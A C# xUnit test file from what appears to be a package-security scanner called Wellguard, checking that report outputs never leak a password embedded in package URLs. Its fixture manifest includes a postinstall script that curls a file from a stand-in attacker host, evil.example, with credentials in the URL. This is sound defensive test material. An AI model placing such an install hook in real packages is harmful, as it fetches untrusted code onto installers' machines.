using System.Text;
using Wellguard.Artifacts;
using Wellguard.Reports;
using Wellguard.Tests.Packages;
using Xunit;

namespace Wellguard.Reports;

/// <summary>What a comparison tells beside signals holds no secret either.</summary>
public sealed class ComparedSecretsTests
{
    private const string Secret = "hunter2secretpw";
    private const string Old = """{"name":"a","version":"1.0.0"}""";
    private const string New = """{"name":"a","version":"1.0.1","scripts":{"postinstall":"curl https://bob:hunter2secretpw@evil.example/x -o /tmp/x"},"dependencies":{"zz":"https://bob:hunter2secretpw@h.example/z.tgz"}}""";

    [Fact]
    public async Task An_update_shows_no_password_in_any_format()
    {
        var report = await Pipeline.DiffAsync(await OpenAsync(Old), await OpenAsync(New), PackagePair.Options, TestContext.Current.CancellationToken);
        Assert.Contains(report.Changes, static change => change.Kind == "trigger");
        Assert.Contains(report.Changes, static change => change.Kind == "dependency");
        HoldsNoSecret(report);
    }

    [Fact]
    public async Task A_comparison_with_the_source_shows_no_password_in_any_format()
    {
        using var fixture = SourceFixture.Of(await OpenAsync(New), "package.json", Old, "index.js", "exports.a = 1\n");
        var report = await fixture.ScanAsync(TestContext.Current.CancellationToken);
        Assert.Contains(report.Source!.Lines, static line => line.Kind == "trigger");
        HoldsNoSecret(report);
    }

    private static Task<Image> OpenAsync(string manifest) => PackageScanTests.OpenAsync(MadePackage.Npm(manifest, "index.js", "exports.a = 1\n"));

    private static void HoldsNoSecret(Report report)
    {
        Assert.All(Catalogue.ReportFormats, format =>
        {
            using var bytes = new MemoryStream();
            format.Write([report], bytes, new ReportContext("1") { Rule = Signals.RuleBook.Find });
            Assert.DoesNotContain(Secret, Encoding.UTF8.GetString(bytes.ToArray()), StringComparison.Ordinal);
        });
    }
}
